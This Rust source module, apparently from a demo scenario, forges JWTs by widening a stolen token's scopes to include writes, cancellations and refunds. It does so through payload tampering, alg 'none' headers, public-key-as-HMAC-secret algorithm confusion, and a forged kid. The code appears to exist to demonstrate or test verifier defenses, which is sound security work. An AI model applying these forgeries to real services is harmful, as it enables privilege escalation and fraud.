//! What a thief does to a token without the key.

use base64_simd::URL_SAFE_NO_PAD as BASE64URL;
use hmac::{Hmac, KeyInit, Mac};
use serde_json::{Value, json};
use sha2::Sha256;

use crate::demo::scenario::Forgery;

/// What is added to the payload of a stolen token.
const MORE: &str = "orders:write orders:cancel payments:refund reports:read";

/// A token made of another one; `jwks` is what everybody can read.
pub(super) fn forge(how: Forgery, token: &str, jwks: &Value) -> Option<String> {
    let mut segments = token.split('.');
    let (header, payload, signature) = (segments.next()?, segments.next()?, segments.next()?);
    let wider = || {
        let mut claims = decode(payload)?;
        let scopes = format!("{} {MORE}", claims.get("scope")?.as_str()?);
        claims.as_object_mut()?.insert("scope".into(), scopes.into());
        Some(encode(&claims))
    };
    Some(match how {
        Forgery::Payload => format!("{header}.{}.{signature}", wider()?),
        Forgery::None => format!("{}.{}.", unsigned(), wider()?),
        Forgery::NoneWithSignature => format!("{}.{}.{signature}", unsigned(), wider()?),
        Forgery::PublicKeyAsSecret => {
            let mut header = decode(header)?;
            let key = jwks.get("keys")?.as_array()?.iter().find(|key| key.get("kid") == header.get("kid"))?;
            let secret = pem(key)?;
            header.as_object_mut()?.insert("alg".into(), "HS256".into());
            let signed = format!("{}.{}", encode(&header), wider()?);
            let mut mac = Hmac::<Sha256>::new_from_slice(secret.as_bytes()).ok()?;
            mac.update(signed.as_bytes());
            format!("{signed}.{}", BASE64URL.encode_to_string(mac.finalize().into_bytes()))
        }
        Forgery::UnknownKey => {
            let mut header = decode(header)?;
            header.as_object_mut()?.insert("kid".into(), format!("forged-{:016x}", fastrand::u64(..)).into());
            format!("{}.{payload}.{signature}", encode(&header))
        }
    })
}

fn unsigned() -> String {
    encode(&json!({ "alg": "none", "typ": "at+jwt" }))
}

/// The claims or the header, unverified.
pub(super) fn decode(segment: &str) -> Option<Value> {
    serde_json::from_slice(&BASE64URL.decode_to_vec(segment).ok()?).ok()
}

fn encode(value: &Value) -> String {
    BASE64URL.encode_to_string(value.to_string())
}

/// A P-256 key as the PEM file that everybody would make of it (RFC 5480): what comes before the point never changes.
fn pem(jwk: &Value) -> Option<String> {
    const BEFORE: [u8; 27] = [
        0x30, 0x59, 0x30, 0x13, 0x06, 0x07, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x02, 0x01, 0x06, 0x08, 0x2a, 0x86, 0x48,
        0xce, 0x3d, 0x03, 0x01, 0x07, 0x03, 0x42, 0x00, 0x04,
    ];
    let coordinate = |name| BASE64URL.decode_to_vec(jwk.get(name)?.as_str()?).ok();
    let der = [&BEFORE[..], &coordinate("x")?, &coordinate("y")?].concat();
    let text = base64_simd::STANDARD.encode_to_string(der);
    let lines: Vec<&str> = text.as_bytes().chunks(64).filter_map(|line| std::str::from_utf8(line).ok()).collect();
    Some(format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n", lines.join("\n")))
}
